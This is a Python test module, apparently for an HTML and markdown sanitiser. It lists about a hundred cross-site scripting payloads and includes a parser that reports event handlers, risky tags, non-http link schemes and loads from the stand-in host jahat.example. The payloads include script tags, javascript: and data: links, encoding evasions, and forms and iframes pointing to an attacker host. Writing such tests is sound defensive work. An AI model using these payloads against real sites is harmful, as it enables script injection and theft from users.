"""Texts that try to run, load or disguise something, one idea a line; and what a browser finds of them."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

ATTACKS = [
    # Elements that run
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//jahat.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "</p><script>alert(1)</script><p>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    # Attributes that run
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<b onmouseover=alert(1)>tebal</b>",
    "<a href=# onclick=alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=position:fixed;inset:0;background:red>tutup seluruh halaman</p>",
    "<form action=//jahat.example><button>Masuk</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # Elements that load
    "<iframe src=//jahat.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//jahat.example/>",
    "<style>@import '//jahat.example/x.css';</style>",
    "<img src=https://jahat.example/titik.png>",
    "![gambar](https://jahat.example/titik.png)",
    "![x](javascript:alert(1))",
    "[![x](https://jahat.example/titik.png)](https://jahat.example)",
    '![x][1]\n\n[1]: https://jahat.example/titik.png "x"',
    # Addresses of links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://contoh.id/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://contoh.id/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:http://jahat.example!/x)",
    "[x](//jahat.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://a"onmouseover=alert(1))',
    "[x](http://a'onmouseover='alert(1))",
    '[x](https://contoh.id "judul\\" onmouseover=alert(1) x=\\"")',
    "[x](https://contoh.id/`onmouseover=alert(1)`)",
    "<javascript:alert(1)>",
    "<https://contoh.id/\"onmouseover=alert(1)>",
    'https://contoh.id/"onmouseover="alert(1)',
    "https://contoh.id/<script>alert(1)</script>",
    "javascript:alert(1)//https://contoh.id",
    "[a](javascript:alert(1)//[b](https://contoh.id))",
    # The dialect's own signs around them
    "*<img src=x onerror=alert(1)>*",
    "_[x](javascript:alert(1))_",
    "~<svg/onload=alert(1)>~",
    "- <script>alert(1)</script>",
    "> <iframe src=//jahat.example>",
    "1. [x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ request.user }}{% load static %}{% include 'base.html' %}",
    "'\"><script>alert(1)</script>",
    "\"autofocus onfocus=alert(1) x=\"",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]></script><script>alert(1)</script>",
    "\u202egnp.exe\u202c <script>alert(1)</script>",
]  # fmt: skip

ALLOWED_SCHEMES = {"http", "https", "mailto"}


class Seen(HTMLParser):
    """What a browser would find in a piece of HTML: elements, attributes, and where links lead."""

    def __init__(self, html: str = ""):
        super().__init__()
        self.tags, self.attributes, self.links, self.rels, self.loaded = set(), set(), [], [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        given = dict(attrs)
        if tag == "a":
            self.links.append(given.get("href") or "")
            self.rels.append(given.get("rel"))
        self.loaded += [
            value or ""
            for name, value in attrs
            if name in {"src", "srcset", "data", "poster", "action", "formaction", "background"}
            or (name in {"href", "xlink:href"} and tag != "a")
        ]


def runs(seen: Seen) -> list[str]:
    """Return what could run or load from elsewhere in a whole page of ours."""
    found = [name for name in seen.attributes if name.startswith("on") or name == "style"]
    found += sorted(seen.tags & {"iframe", "object", "embed", "base", "math", "style", "marquee", "audio"})
    for address in (*seen.links, *seen.loaded):
        parts = urlsplit(address.strip())
        if parts.scheme and parts.scheme not in ALLOWED_SCHEMES:
            found.append(address)
    found += [address for address in seen.loaded if "jahat.example" in address]
    return found
